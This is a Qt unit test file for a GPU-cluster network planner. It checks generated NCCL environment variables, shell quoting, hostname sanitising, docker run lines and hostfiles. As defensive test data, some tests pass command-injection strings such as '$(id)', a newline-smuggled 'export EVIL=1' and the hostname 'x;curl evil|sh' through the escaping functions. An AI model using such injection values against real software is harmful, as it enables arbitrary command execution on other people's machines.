// SPDX-License-Identifier: GPL-3.0-or-later
#ifndef Q_MOC_RUN // moc 6.4 does not read every C++20 header
#include "fabricfixture.h"

#include "domain/hardware/hostname.h"
#include "domain/plan/environment.h"
#include "domain/plan/shellword.h"

#include <algorithm>
#endif

#include <QProcess>
#include <QTemporaryFile>
#include <QTest>

using namespace sparkloom;
using namespace sparkloom::domain;
using namespace sparkloom::test;

namespace {

std::vector<EnvironmentVariable> environmentOf(
    int count, Cabling (*cable)(const std::vector<SparkFacts> &), SparkFacts *first = nullptr)
{
    std::vector<SparkFacts> sparks = makeSparks(count);
    const Cabling cabling = cable(sparks);
    plug(sparks, cabling);
    const auto plan = planAddresses(trueMap(sparks, cabling), sparks, {});
    if (first)
        *first = sparks[0];
    return clusterEnvironment(*plan, sparks[0]);
}

std::string valueOf(const std::vector<EnvironmentVariable> &variables, const char *name)
{
    for (const EnvironmentVariable &variable : variables)
        if (variable.name == name)
            return variable.value;
    return "(not set)";
}

Cabling pair(const std::vector<SparkFacts> &sparks)
{
    return pairCabling(sparks, 1);
}
Cabling star(const std::vector<SparkFacts> &sparks)
{
    return starCabling(sparks, 1);
}

} // namespace

class TestEnvironment : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void pairAndStar();
    void rings();
    void lineHasNoRing();
    void storageIsLeftOut();
    void notesBecomeComments();
    void everyVariableHasAReason();
    void unknownManagementIsLeftOut();
    void shellReadsTheExports();
    void wordsOfOthersAreOneWord();
    void dockerRun();
    void hostfiles();
};

void TestEnvironment::pairAndStar()
{
    for (const auto &variables : {environmentOf(2, pair), environmentOf(4, star)}) {
        for (const char *name : {"NCCL_SOCKET_IFNAME", "GLOO_SOCKET_IFNAME", "TP_SOCKET_IFNAME", "UCX_NET_DEVICES",
                 "OMPI_MCA_btl_tcp_if_include"})
            QCOMPARE(valueOf(variables, name), std::string("enP7s7"));
        QCOMPARE(valueOf(variables, "NCCL_IB_HCA"), std::string("=rocep1s0f1,roceP2p1s0f1"));
        QCOMPARE(valueOf(variables, "NCCL_IB_SUBNET_AWARE_ROUTING"), std::string("1"));
        for (const char *name : {"NCCL_IB_MERGE_NICS", "NCCL_ALGO", "NCCL_IB_GID_INDEX", "NCCL_NET_PLUGIN"})
            QCOMPARE(valueOf(variables, name), std::string("(not set)"));
    }
}

void TestEnvironment::rings()
{
    const auto three = environmentOf(3, ringCabling), four = environmentOf(4, ringCabling);
    for (const auto &variables : {three, four}) {
        QCOMPARE(valueOf(variables, "NCCL_IB_HCA"), std::string("=rocep1s0f0,roceP2p1s0f0,rocep1s0f1,roceP2p1s0f1"));
        QCOMPARE(valueOf(variables, "NCCL_IB_MERGE_NICS"), std::string("0"));
        QCOMPARE(valueOf(variables, "NCCL_NET_PLUGIN"), std::string("none"));
        QCOMPARE(valueOf(variables, "NCCL_IB_GID_INDEX"), std::string("(not set)"));
    }
    QCOMPARE(valueOf(three, "NCCL_ALGO"), std::string("(not set)")); // everybody is a neighbour of everybody
    QCOMPARE(valueOf(four, "NCCL_ALGO"), std::string("Ring"));
    QCOMPARE(valueOf(four, "NCCL_CUMEM_ENABLE"), std::string("1"));
    QCOMPARE(valueOf(four, "NCCL_RUNTIME_CONNECT"), std::string("1"));
}

// The two ends of a line are no neighbours, so NCCL can close no ring over it.
void TestEnvironment::lineHasNoRing()
{
    std::vector<SparkFacts> sparks = makeSparks(3);
    Cabling cabling = ringCabling(sparks);
    cabling.direct.pop_back();
    plug(sparks, cabling);
    const auto plan = planAddresses(trueMap(sparks, cabling), sparks, {});
    QVERIFY(plan->topology == Topology::Line);
    const auto variables = clusterEnvironment(*plan, sparks[0]);
    QCOMPARE(valueOf(variables, "NCCL_ALGO"), std::string("(not set)"));
    QCOMPARE(valueOf(variables, "NCCL_IB_MERGE_NICS"), std::string("0"));
    QCOMPARE(environmentNotes(*plan).size(), std::size_t(1));
    QCOMPARE(environmentNotes(*plan)[0].id, std::string("environment.line"));
}

void TestEnvironment::storageIsLeftOut()
{
    std::vector<SparkFacts> sparks = makeSparks(2);
    const Cabling cabling = pairTwoCabling(sparks);
    plug(sparks, cabling);
    AddressRequest request;
    request.goal = Topology::SplitRole;
    const auto plan = planAddresses(trueMap(sparks, cabling), sparks, request);
    const auto variables = clusterEnvironment(*plan, sparks[0]);
    QCOMPARE(valueOf(variables, "NCCL_IB_HCA"), std::string("=rocep1s0f0,roceP2p1s0f0"));
    QCOMPARE(environmentNotes(*plan).size(), std::size_t(1));
    QCOMPARE(environmentNotes(*plan)[0].id, std::string("environment.storage-left-out"));
}

void TestEnvironment::notesBecomeComments()
{
    const std::vector<EnvironmentVariable> variables = {{"A", "1", {}}};
    const std::vector<std::string> reasons = {"why"}, notes = {"Experimental: x\nexport EVIL=1"};
    const std::string text = environmentAsShell(variables, reasons, notes);
    QVERIFY(text.starts_with("# Experimental: x"));
    QCOMPARE(std::count(text.begin(), text.end(), '\n'), std::ptrdiff_t(2));
    for (const auto &[count, noted] : {std::pair(3, false), std::pair(4, true), std::pair(6, true)}) {
        std::vector<SparkFacts> sparks = makeSparks(count);
        plug(sparks, ringCabling(sparks));
        const auto plan = planAddresses(trueMap(sparks, ringCabling(sparks)), sparks, {});
        QCOMPARE(!environmentNotes(*plan).empty(), noted);
    }
}

void TestEnvironment::everyVariableHasAReason()
{
    for (const EnvironmentVariable &variable : environmentOf(4, ringCabling))
        QVERIFY(variable.reason.id.starts_with("environment."));
}

void TestEnvironment::unknownManagementIsLeftOut()
{
    SparkFacts spark;
    (void)environmentOf(2, pair, &spark);
    spark.managementInterface.clear();
    const auto variables = clusterEnvironment(AddressPlan(), spark);
    QCOMPARE(valueOf(variables, "NCCL_SOCKET_IFNAME"), std::string("(not set)"));
    QCOMPARE(valueOf(variables, "NCCL_IB_HCA"), std::string("(not set)"));
}

// A real shell reads the text, also with values that try to leave their quotes.
void TestEnvironment::shellReadsTheExports()
{
    const std::vector<EnvironmentVariable> variables = {
        {"GOOD", "a'b\"$(id) `x`;#", {}}, {"BAD-NAME", "x", {}}, {"B", "2", {}}};
    const std::vector<std::string> reasons = {"first\nexport EVIL=1", "", "why"};
    const std::string text = environmentAsShell(variables, reasons);
    QVERIFY(text.find("BAD-NAME") == std::string::npos);
    QProcess process;
    process.start(QStringLiteral("/bin/sh"),
        {QStringLiteral("-c"), QString::fromStdString(text + "printf '%s|%s|%s' \"$GOOD\" \"$B\" \"${EVIL-unset}\"")});
    QVERIFY(process.waitForFinished(20000));
    QCOMPARE(process.readAllStandardOutput(), QByteArray("a'b\"$(id) `x`;#|2|unset"));
}

// Every byte that a path or a name can have, as one word of a real shell; and what such a name becomes.
void TestEnvironment::wordsOfOthersAreOneWord()
{
    std::string line = "printf '%s\\0'";
    QByteArray wanted;
    for (int byte = 1; byte < 256; ++byte) {
        const std::string word = std::string("a") + static_cast<char>(byte) + "$(id)" + static_cast<char>(byte) + "'b";
        line += ' ' + shellWord(word);
        wanted += QByteArray::fromStdString(word) + '\0';
    }
    QTemporaryFile script;
    QVERIFY(script.open() && script.write(QByteArray::fromStdString(line)) > 0 && script.flush());
    QProcess process;
    process.start(QStringLiteral("/bin/sh"), {script.fileName()});
    QVERIFY(process.waitForFinished(20000));
    QCOMPARE(process.readAllStandardOutput(), wanted);
    QCOMPARE(shellWord("/etc/netplan/40-cx7.yaml"), std::string("/etc/netplan/40-cx7.yaml"));
    QCOMPARE(shellWord("-rf"), std::string("'-rf'"));
    QCOMPARE(shellWord(""), std::string("''"));

    for (const char *proper : {"spark-5c2d", "gx10_a.lab.example", "A", ""})
        QCOMPARE(plainHostName(proper), std::string(proper));
    QCOMPARE(plainHostName("x;curl evil|sh"), std::string("x-curl-evil-sh-"));
    QCOMPARE(plainHostName("-rf"), std::string("xrf-"));
    QCOMPARE(plainHostName("<b>\x1b[31m\xe2\x80\xae"), std::string("xb---31m----"));
    for (const std::string &odd : {std::string("$(id)"), std::string("a b"), std::string(300, 'a')}) {
        QCOMPARE(shellWord(plainHostName(odd)), plainHostName(odd));
        QVERIFY(!isHostNameOrAddress(plainHostName(odd)) && plainHostName(odd).size() <= 65);
    }

    // The command beside a file of somebody else, whatever that is called.
    std::vector<SparkFacts> sparks = makeSparks(2);
    plug(sparks, pair(sparks));
    std::vector<PlanInput> inputs = {inputFor(sparks[0]), inputFor(sparks[1])};
    const std::string path = "/etc/netplan/9 \"$(id)';x.yaml";
    const std::string netdev = sparks[0].half({CageIndex::One, Side::A})->netdev;
    inputs[0].netplan->push_back({path, "network:\n  ethernets:\n    " + netdev + ":\n      dhcp4: true\n"});
    const auto addresses = planAddresses(trueMap(sparks, pair(sparks)), sparks, {});
    const auto plan = makePlan(*addresses, inputs);
    QVERIFY2(plan.ok(), plan ? "" : plan.error().message.id.c_str());
    const std::vector<Change> &changes = plan->forSpark(sparks[0].id)->changes;
    const auto foreign = std::find_if(
        changes.begin(), changes.end(), [](const Change &change) { return change.kind == Change::Kind::ForeignFile; });
    QVERIFY(foreign != changes.end());
    QCOMPARE(foreign->command, "sudo mv " + shellWord(path) + " /var/lib/sparkloom/");
}

void TestEnvironment::dockerRun()
{
    const std::string text = environmentAsDockerRun(environmentOf(2, pair));
    for (const char *part : {"docker run", "--network host", "--ipc host", "--device /dev/infiniband",
             "--ulimit memlock=-1", "-e NCCL_SOCKET_IFNAME='enP7s7'"})
        QVERIFY2(text.find(part) != std::string::npos, part);
}

void TestEnvironment::hostfiles()
{
    const std::vector<std::string> addresses = {"192.168.77.10", "spark-b.local", "bad name", "x\ny"};
    QCOMPARE(hostfile(addresses), std::string("192.168.77.10 slots=1\nspark-b.local slots=1\n"));
}

QTEST_GUILESS_MAIN(TestEnvironment)
#include "tst_environment.moc"
